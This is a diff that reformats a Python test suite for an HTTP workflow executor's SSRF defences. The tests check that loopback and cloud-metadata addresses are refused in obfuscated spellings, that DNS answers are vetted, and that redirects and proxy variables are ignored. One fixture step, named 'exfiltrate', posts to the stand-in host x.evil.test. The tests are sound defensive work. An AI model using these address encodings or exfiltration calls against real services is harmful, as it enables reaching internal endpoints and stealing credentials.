@@ -112,9 +112,7 @@ async def test_registration_refuses_every_hostile_url_form(
     assert canary.hits == 0
 
 
-async def test_without_an_allowlist_metadata_and_odd_spellings_are_still_refused(
-    db_url: str, canary: Canary
-) -> None:
+async def test_without_an_allowlist_metadata_and_odd_spellings_are_still_refused(db_url: str, canary: Canary) -> None:
     refused = [f"http://{host}/" for host in ALWAYS_REFUSED_HOSTS] + [
         f"http://{host}:{canary.port}/"
         for host in ("127.1", "0x7f.1", "2130706433", "0177.0.0.1", "0.0.0.0", "[::]", "[::ffff:0.0.0.0]")
@@ -127,8 +125,7 @@ async def test_without_an_allowlist_metadata_and_odd_spellings_are_still_refused
 
 
 def _request(url: str, **kwargs: object) -> OutboundRequest:
-    return OutboundRequest(method="POST", url=url, headers={}, body={"a": 1}, timeout_ms=2000, call=CALL,
-                           **kwargs)  # type: ignore[arg-type]
+    return OutboundRequest(method="POST", url=url, headers={}, body={"a": 1}, timeout_ms=2000, call=CALL, **kwargs)  # type: ignore[arg-type]
 
 
 ExecutorFactory = Callable[..., Awaitable[HttpStepExecutor]]
@@ -139,8 +136,10 @@ async def make_executor() -> AsyncIterator[ExecutorFactory]:
     clients = []
 
     async def make(policy: TargetPolicy, resolver: Resolver | None = None) -> HttpStepExecutor:
-        client = build_client(max_connections=10) if resolver is None else build_client(
-            max_connections=10, resolver=resolver
+        client = (
+            build_client(max_connections=10)
+            if resolver is None
+            else build_client(max_connections=10, resolver=resolver)
         )
         clients.append(client)
         return HttpStepExecutor(client, policy=policy)
@@ -180,9 +179,18 @@ def answering(*rounds: list[str]) -> tuple[Resolver, list[str]]:
 
 @pytest.mark.parametrize(
     "answer",
-    [["169.254.169.254"], ["::ffff:169.254.169.254"], ["64:ff9b::a9fe:a9fe"], ["2002:a9fe:a9fe::1"],
-     ["fd00:ec2::254"], ["0.0.0.0"], ["127.0.0.1", "169.254.169.254"], ["::ffff:127.0.0.1"], ["127.0.0.1"],
-     ["not-an-address"]],
+    [
+        ["169.254.169.254"],
+        ["::ffff:169.254.169.254"],
+        ["64:ff9b::a9fe:a9fe"],
+        ["2002:a9fe:a9fe::1"],
+        ["fd00:ec2::254"],
+        ["0.0.0.0"],
+        ["127.0.0.1", "169.254.169.254"],
+        ["::ffff:127.0.0.1"],
+        ["127.0.0.1"],
+        ["not-an-address"],
+    ],
 )
 async def test_dns_answers_are_checked_before_connecting(
     make_executor: ExecutorFactory, canary: Canary, answer: list[str]
@@ -247,7 +255,9 @@ async def test_redirects_to_the_canary_are_not_followed(
 
 
 async def test_proxy_variables_are_ignored(
-    make_executor: ExecutorFactory, participant: ScriptedParticipant, canary: Canary,
+    make_executor: ExecutorFactory,
+    participant: ScriptedParticipant,
+    canary: Canary,
     monkeypatch: pytest.MonkeyPatch,
 ) -> None:
     for name in ("HTTP_PROXY", "HTTPS_PROXY", "ALL_PROXY", "http_proxy", "https_proxy", "all_proxy"):
@@ -271,10 +281,16 @@ async def test_a_violation_at_call_time_fails_the_step_once_and_rolls_back(
     doc = {
         "name": "sneaky",
         "steps": [
-            {"name": "reserve", "action": {"method": "POST", "url": f"{participant.url}/reserve"},
-             "compensation": {"method": "POST", "url": f"{participant.url}/release"}},
-            {"name": "exfiltrate", "action": {"method": "POST", "url": f"http://x.evil.test:{canary.port}/"},
-             "retry": {"max_attempts": 5, "initial_interval": "10ms"}},
+            {
+                "name": "reserve",
+                "action": {"method": "POST", "url": f"{participant.url}/reserve"},
+                "compensation": {"method": "POST", "url": f"{participant.url}/release"},
+            },
+            {
+                "name": "exfiltrate",
+                "action": {"method": "POST", "url": f"http://x.evil.test:{canary.port}/"},
+                "retry": {"max_attempts": 5, "initial_interval": "10ms"},
+            },
         ],
     }
     try:
